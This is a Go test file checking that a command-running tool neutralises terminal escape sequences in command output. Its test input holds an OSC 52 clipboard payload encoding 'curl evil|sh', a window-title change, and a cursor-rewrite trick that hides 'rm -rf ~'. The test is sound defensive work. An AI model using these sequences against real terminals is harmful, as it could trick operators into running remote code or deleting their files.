package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/amf-os/amf/internal/testenv"
)

// An attacker who can write what a command prints (a log line, a file
// name, a host's banner) writes terminal control sequences into it:
// one that sets the operator's clipboard (OSC 52), one that sets the
// window title, and a carriage return with a cursor move that rewrites
// the line already shown. `amf run` on a terminal shows them as text;
// piped, the output is the command's own bytes.
func TestCommandOutputDoesNotDriveTheTerminal(t *testing.T) {
	llm := fakeModel(t)
	env, state := contextEnv(t)
	natsAddr, httpAddr := testenv.FreeAddr(t), testenv.FreeAddr(t)
	base := "http://" + httpAddr
	bridgeTokens.register(base, adminTokenFile(state))
	up := startAmf(t, append(env, "OLLAMA_HOST="+llm.URL()), "up", "--listen", natsAddr, "--http", httpAddr)
	waitHealthy(t, base, up)

	cmd := `printf 'safe\033]52;c;Y3VybCBldmlsfHNo\007\033]0;owned\007\rrm -rf ~\033[1A\033[2K\n' && printf 'err\033[8m hidden\n' >&2`
	out := onTerminal(t, env, "run", "--id", "screen-1", "--cmd", cmd)
	for _, b := range []byte{0x1b, 0x07, '\r'} {
		if i := bytes.IndexByte(out, b); i >= 0 {
			t.Fatalf("the terminal received the control byte %#x at %d:\n%q", b, i, out)
		}
	}
	for _, want := range []string{`safe\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;owned\x07\x0drm -rf ~\x1b[1A\x1b[2K`, `err\x1b[8m hidden`} {
		if !bytes.Contains(out, []byte(want)) {
			t.Fatalf("the terminal does not show %s:\n%s", want, out)
		}
	}
	// A program reading the output gets the command's bytes.
	piped := amfRun(t, env, 0, "run", "--id", "screen-2", "--cmd", cmd)
	if !strings.Contains(piped, "safe\x1b]52;c;Y3VybCBldmlsfHNo\x07") {
		t.Fatalf("piped output lost the command's bytes:\n%q", piped)
	}
}

// onTerminal runs `amf args…` on a new pseudo-terminal and returns
// what the terminal received.
func onTerminal(t *testing.T, env []string, args ...string) []byte {
	t.Helper()
	p := startOnTerminal(t, env, args...)
	if code, out := p.wait(t); code != 0 {
		t.Fatalf("amf %s: exit %d:\n%s", strings.Join(args, " "), code, out)
	}
	return []byte(p.out.String())
}
